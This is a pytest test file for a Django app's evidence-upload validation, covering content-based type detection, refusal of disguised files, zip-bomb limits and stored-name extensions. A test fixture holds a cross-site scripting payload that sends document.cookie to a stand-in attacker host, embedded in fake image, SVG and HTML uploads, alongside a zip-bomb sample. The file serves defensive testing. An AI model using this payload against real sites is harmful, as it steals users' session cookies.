"""Evidence uploads are judged by their content (config/uploads.py, issue 12's ASVS V5): an
allow-list of detected types, Office files checked as what they claim within a decompression
limit, images that must decode, and the stored name's extension from the detected type."""

import io
import zipfile

import pytest
from django.core.exceptions import ValidationError
from django.core.files.uploadedfile import SimpleUploadedFile
from django.test import override_settings
from openpyxl import Workbook
from PIL import Image

from assessments.collection import services as collection_services
from config import uploads
from config.files import DOCX, ODT, PDF, XLSX


def upload(name: str, content: bytes) -> SimpleUploadedFile:
    return SimpleUploadedFile(name, content, "application/octet-stream")


def image(fmt: str) -> bytes:
    out = io.BytesIO()
    Image.new("RGB", (2, 2), (11, 61, 110)).save(out, format=fmt)
    return out.getvalue()


def zipped(entries: dict[str, bytes]) -> bytes:
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as archive:
        for name, data in entries.items():
            archive.writestr(name, data)
    return out.getvalue()


def docx(body: bytes = b"<w:document/>") -> bytes:
    return zipped({"[Content_Types].xml": b"<Types/>", "word/document.xml": body})


def xlsx() -> bytes:
    out = io.BytesIO()
    Workbook().save(out)
    return out.getvalue()


PDF_BYTES = b"%PDF-1.4\n1 0 obj << /Type /Catalog >> endobj\ntrailer << /Root 1 0 R >>\n%%EOF\n"
SCRIPT = b"<script>document.location='https://attacker.example/'+document.cookie</script>"

ACCEPTED = [
    ("regulation.pdf", PDF_BYTES, PDF),
    ("photo.png", image("PNG"), uploads.PNG),
    ("scan.jpg", image("JPEG"), uploads.JPEG),
    ("notes.docx", docx(), DOCX),
    ("table.xlsx", xlsx(), XLSX),
    (
        "notes.odt",
        zipped({"mimetype": ODT.encode(), "content.xml": b"<office:document-content/>"}),
        ODT,
    ),
]
REFUSED = [
    ("page.png", b"<!DOCTYPE html><html><body>" + SCRIPT + b"</body></html>", uploads.NOT_ACCEPTED),
    (
        "logo.svg",
        b'<svg xmlns="http://www.w3.org/2000/svg">' + SCRIPT + b"</svg>",
        uploads.NOT_ACCEPTED,
    ),
    ("fake.png", image("PNG")[:33] + SCRIPT, uploads.DAMAGED),
    ("fake.jpg", b"\xff\xd8\xff\xe0" + SCRIPT, uploads.DAMAGED),
    ("archive.docx", zipped({"readme.txt": b"not a document"}), uploads.NOT_ACCEPTED),
    ("truncated.pdf", PDF_BYTES[:40], uploads.DAMAGED),
    ("broken.docx", docx()[:60], uploads.DAMAGED),
    ("run.js", b"alert(1);\n" * 10, uploads.NOT_ACCEPTED),
]


@pytest.mark.parametrize(("name", "content", "expected"), ACCEPTED, ids=[a[0] for a in ACCEPTED])
def test_accepted_types_are_detected_from_their_content(name, content, expected):
    assert uploads.inspect_upload(upload(name, content)) == (expected, "")


@pytest.mark.parametrize(("name", "content", "problem"), REFUSED, ids=[r[0] for r in REFUSED])
def test_what_is_not_on_the_list_or_not_what_it_claims_is_refused(name, content, problem):
    assert uploads.inspect_upload(upload(name, content)) == ("", problem)


@override_settings(EVIDENCE_MAX_UNPACKED_BYTES=1_000_000, EVIDENCE_MAX_UNPACKED_RATIO=100)
def test_a_zip_bomb_stops_being_read_at_the_limit():
    bomb = docx(body=b"\0" * 5_000_000)  # ~5 KB packed, 5 MB unpacked
    assert len(bomb) < 50_000
    assert uploads.inspect_upload(upload("report.docx", bomb)) == ("", uploads.BOMB)
    # The same parts within the limits (size and ratio) are a document.
    text = b" ".join(str(n).encode() for n in range(3_000))
    assert uploads.inspect_upload(upload("report.docx", docx(text))) == (DOCX, "")


@pytest.mark.django_db
def test_the_stored_name_takes_the_detected_type_never_the_users(national_assessment, focal_a):
    evidence = collection_services.evidence_create(
        assessment=national_assessment,
        institution=focal_a.institution,
        actor=focal_a,
        kind="file",
        title="Photo of the notice board",
        file=upload("notice.html", image("PNG")),
    )
    try:
        assert evidence.file.name.endswith(".png")
        assert evidence.content_type == uploads.PNG
        assert evidence.original_name == "notice.html"  # given back in Content-Disposition
    finally:
        evidence.file.storage.delete(evidence.file.name)


@pytest.mark.django_db
def test_a_refused_file_is_not_stored_and_the_message_names_the_field(national_assessment, focal_a):
    with pytest.raises(ValidationError) as refused:
        collection_services.evidence_create(
            assessment=national_assessment,
            institution=focal_a.institution,
            actor=focal_a,
            kind="file",
            title="Notice",
            file=upload("notice.png", b"<html>" + SCRIPT),
        )
    assert "file" in refused.value.message_dict
    assert national_assessment.evidence.count() == 0


@pytest.mark.django_db
@override_settings(EVIDENCE_MAX_BYTES=1_000)
def test_a_file_over_the_size_limit_is_refused_naming_the_limit(national_assessment, focal_a):
    with pytest.raises(ValidationError) as refused:
        collection_services.evidence_create(
            assessment=national_assessment,
            institution=focal_a.institution,
            actor=focal_a,
            kind="file",
            title="Large scan",
            file=upload("scan.pdf", PDF_BYTES + b"%" * 2_000 + b"\n%%EOF\n"),
        )
    [message] = refused.value.message_dict["file"]
    assert message.startswith("File: the file is larger than 0.00 MB"), message
